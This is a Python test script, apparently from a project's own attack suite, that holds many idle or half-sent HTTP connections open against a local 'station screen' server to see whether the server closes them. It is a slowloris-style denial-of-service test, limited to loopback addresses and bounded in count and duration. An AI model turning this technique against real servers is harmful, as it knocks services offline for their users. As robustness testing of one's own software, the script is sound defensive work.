#!/usr/bin/env python3
"""Issue 25, attack 1: hold many half-open HTTP connections to the station screen.

Opens COUNT TCP connections to a loopback address and sends nothing (or, with --partial, half a
request line), holds them for HOLD seconds, and prints once a second how many the server has
closed. Loopback only, bounded: at most 10000 connections, at most 300 s.

    python3 scripts/attacks/halfopen.py 127.0.0.1 8080 --count 1100 --hold 30
"""

import argparse
import ipaddress
import select
import socket
import sys
import time


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=1100)
    p.add_argument("--hold", type=float, default=30.0)
    p.add_argument("--partial", action="store_true", help="send 'GET / HT' on each connection")
    a = p.parse_args()
    if not ipaddress.ip_address(a.host).is_loopback:
        print("loopback addresses only", file=sys.stderr)
        return 2
    count = max(1, min(a.count, 10000))
    hold = max(1.0, min(a.hold, 300.0))

    conns, failed = [], 0
    started = time.monotonic()
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2.0)
        try:
            s.connect((a.host, a.port))
            if a.partial:
                s.sendall(b"GET / HT")
            s.setblocking(False)
            conns.append(s)
        except OSError:
            failed += 1
            s.close()
    print(f"opened {len(conns)} connections ({failed} failed) in {time.monotonic() - started:.2f} s", flush=True)

    open_ = set(conns)
    next_report = time.monotonic()
    while time.monotonic() - started < hold:
        # A readable socket that reads b"" (or an error) was closed by the server. poll, not
        # select: descriptors go beyond select's 1024.
        poller = select.poll()
        by_fd = {s.fileno(): s for s in open_}
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        for fd, _ in poller.poll(0):
            s = by_fd[fd]
            try:
                if s.recv(4096) == b"":
                    open_.discard(s)
                    s.close()
            except OSError:
                open_.discard(s)
                s.close()
        now = time.monotonic()
        if now >= next_report:
            print(f"t={now - started:5.1f}s held={len(open_)} closed_by_server={len(conns) - len(open_)}", flush=True)
            next_report += 1.0
        time.sleep(0.1)
    print(f"end: held={len(open_)} closed_by_server={len(conns) - len(open_)} of {len(conns)}", flush=True)
    for s in open_:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
